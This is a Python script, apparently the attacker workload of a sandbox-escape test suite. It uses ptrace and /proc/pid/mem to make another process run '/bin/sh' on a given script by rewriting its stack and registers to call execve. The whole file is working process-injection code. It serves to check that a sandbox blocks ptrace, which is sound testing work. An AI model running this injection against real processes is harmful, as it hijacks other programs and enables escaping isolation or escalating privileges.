"""The escape suite's attacker: makes a process it may ptrace exec `/bin/sh SCRIPT` (x86_64).

Copied into the sandbox and run there as the workload. It attaches to a process that sits
in a system call (sleep, wait), writes the path and argv onto the tracee's stack, points the
tracee's registers at its own `syscall` instruction with execve's number, and detaches.
Prints `injected` on success, `attach failed <errno>` when the kernel refuses the ptrace.
"""
import ctypes
import os
import sys

PTRACE_PEEKTEXT, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 1, 12, 13, 16, 17
SYS_EXECVE = 59


class Regs(ctypes.Structure):  # struct user_regs_struct, x86_64
  _fields_ = [(name, ctypes.c_ulonglong) for name in (
      "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
      "fs_base gs_base ds es fs gs").split()]


libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def inject_exec(pid: int, script: str) -> None:
  if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
    print("attach failed", ctypes.get_errno(), flush=True)
    sys.exit(1)
  os.waitpid(pid, 0x40000000)  # __WALL
  regs = Regs()
  libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs))
  # stopped inside a system call, rip is just past that call's `syscall` (0f 05)
  word = libc.ptrace(PTRACE_PEEKTEXT, pid, ctypes.c_void_p(regs.rip - 2), None)
  if word & 0xFFFF != 0x050F:
    print("tracee is not in a syscall", hex(word & 0xFFFF), flush=True)
    sys.exit(1)
  base = (regs.rsp - 65536) & ~0xF
  path, arg = b"/bin/sh\0", script.encode() + b"\0"
  argv_at = base + 512
  blob = path + arg
  ptrs = (base).to_bytes(8, "little") + (base + len(path)).to_bytes(8, "little") + bytes(8)
  with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
    mem.seek(base)
    mem.write(blob)
    mem.seek(argv_at)
    mem.write(ptrs)
  regs.rax, regs.rdi, regs.rsi, regs.rdx = SYS_EXECVE, base, argv_at, argv_at + 16
  regs.rip -= 2
  regs.orig_rax = (1 << 64) - 1  # no syscall restart on resume
  libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(regs))
  libc.ptrace(PTRACE_DETACH, pid, None, None)
  print("injected", flush=True)


if __name__ == "__main__":
  inject_exec(int(sys.argv[1]), sys.argv[2])
